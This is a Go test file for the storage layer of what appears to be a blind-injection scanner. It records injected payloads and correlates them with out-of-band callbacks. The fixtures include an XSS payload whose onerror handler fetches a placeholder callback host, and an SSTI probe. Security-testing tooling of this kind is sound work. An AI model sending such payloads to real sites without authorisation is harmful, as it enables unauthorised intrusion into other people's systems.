package store

import (
	"context"
	"testing"
	"time"

	"github.com/DATA-DOG/go-sqlmock"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"ricochet.dev/ricochet/internal/rerrors"
)

func newTestStore(t *testing.T) *Store {
	t.Helper()
	s, err := New(":memory:")
	require.NoError(t, err)
	t.Cleanup(func() { s.Close() })
	return s
}

func TestRecordInjection_ThenGetInjection(t *testing.T) {
	s := newTestStore(t)
	ctx := context.Background()

	inj := Injection{
		Token:           "aaaaaaaaaaaaaaaa",
		URL:             "https://target.example/search",
		Method:          "GET",
		ParamName:       "q",
		ContextTag:      "xss:html",
		PayloadTemplate: "<img src=x onerror=fetch('//{{CALLBACK}}')>",
		SentAt:          time.Now(),
	}
	require.NoError(t, s.RecordInjection(ctx, inj))

	got, err := s.GetInjection(ctx, inj.Token)
	require.NoError(t, err)
	assert.Equal(t, inj.URL, got.URL)
	assert.Equal(t, inj.ContextTag, got.ContextTag)
}

func TestRecordInjection_DuplicateTokenRejected(t *testing.T) {
	s := newTestStore(t)
	ctx := context.Background()

	inj := Injection{Token: "bbbbbbbbbbbbbbbb", URL: "https://x", Method: "GET", ParamName: "q", ContextTag: "sqli", PayloadTemplate: "x", SentAt: time.Now()}
	require.NoError(t, s.RecordInjection(ctx, inj))

	err := s.RecordInjection(ctx, inj)
	require.Error(t, err)
	assert.ErrorIs(t, err, rerrors.ErrDuplicateToken)
}

func TestGetInjection_UnknownTokenIsNotFound(t *testing.T) {
	s := newTestStore(t)
	_, err := s.GetInjection(context.Background(), "cccccccccccccccc")
	require.Error(t, err)
	assert.ErrorIs(t, err, rerrors.ErrNotFound)
}

func TestRecordCallback_UnknownTokenNotPersisted(t *testing.T) {
	s := newTestStore(t)
	ctx := context.Background()

	// A callback referencing a token never recorded as an injection is
	// not persisted; the listener still answers 200 OK regardless, but
	// that's the listener's concern, not the store's.
	cb := Callback{ID: "cb-1", Token: "dddddddddddddddd", Protocol: "http", RemoteAddr: "1.2.3.4", ReceivedAt: time.Now()}
	persisted, err := s.RecordCallback(ctx, cb)
	require.NoError(t, err)
	assert.False(t, persisted)

	cbs, err := s.ListCallbacksByToken(ctx, cb.Token)
	require.NoError(t, err)
	assert.Empty(t, cbs)
}

func TestListCorrelated_JoinsInjectionsAndCallbacks(t *testing.T) {
	s := newTestStore(t)
	ctx := context.Background()

	inj := Injection{Token: "eeeeeeeeeeeeeeee", URL: "https://x/profile", Method: "POST", ParamName: "name", ContextTag: "ssti", PayloadTemplate: "{{7*7}}{{CALLBACK}}", SentAt: time.Now()}
	require.NoError(t, s.RecordInjection(ctx, inj))

	cb := Callback{ID: "cb-2", Token: inj.Token, Protocol: "dns", RemoteAddr: "5.6.7.8", ReceivedAt: inj.SentAt.Add(3 * time.Second)}
	persisted, err := s.RecordCallback(ctx, cb)
	require.NoError(t, err)
	require.True(t, persisted)

	// An unrelated injection with no callback must not appear.
	other := Injection{Token: "ffffffffffffffff", URL: "https://x/other", Method: "GET", ParamName: "id", ContextTag: "sqli", PayloadTemplate: "x", SentAt: time.Now()}
	require.NoError(t, s.RecordInjection(ctx, other))

	pairs, err := s.ListCorrelated(ctx, time.Time{})
	require.NoError(t, err)
	require.Len(t, pairs, 1)
	assert.Equal(t, inj.Token, pairs[0].Injection.Token)
	assert.Equal(t, cb.ID, pairs[0].Callback.ID)
}

func TestListCorrelated_RepeatableWithoutConsuming(t *testing.T) {
	s := newTestStore(t)
	ctx := context.Background()

	inj := Injection{Token: "1111111111111111", URL: "https://x", Method: "GET", ParamName: "q", ContextTag: "xss", PayloadTemplate: "x", SentAt: time.Now()}
	require.NoError(t, s.RecordInjection(ctx, inj))
	_, err := s.RecordCallback(ctx, Callback{ID: "cb-3", Token: inj.Token, Protocol: "http", RemoteAddr: "9.9.9.9", ReceivedAt: time.Now()})
	require.NoError(t, err)

	first, err := s.ListCorrelated(ctx, time.Time{})
	require.NoError(t, err)
	second, err := s.ListCorrelated(ctx, time.Time{})
	require.NoError(t, err)
	assert.Equal(t, len(first), len(second))
}

func TestRecordInjection_WrapsDriverErrorAsStoreIO(t *testing.T) {
	db, mock, err := sqlmock.New()
	require.NoError(t, err)
	defer db.Close()

	mock.ExpectExec("INSERT INTO injections").WillReturnError(assertAnError{})

	s := NewFromDB(db)
	err = s.RecordInjection(context.Background(), Injection{Token: "2222222222222222", SentAt: time.Now()})
	require.Error(t, err)
	assert.ErrorIs(t, err, rerrors.ErrStoreIO)
	require.NoError(t, mock.ExpectationsWereMet())
}

type assertAnError struct{}

func (assertAnError) Error() string { return "disk I/O error" }
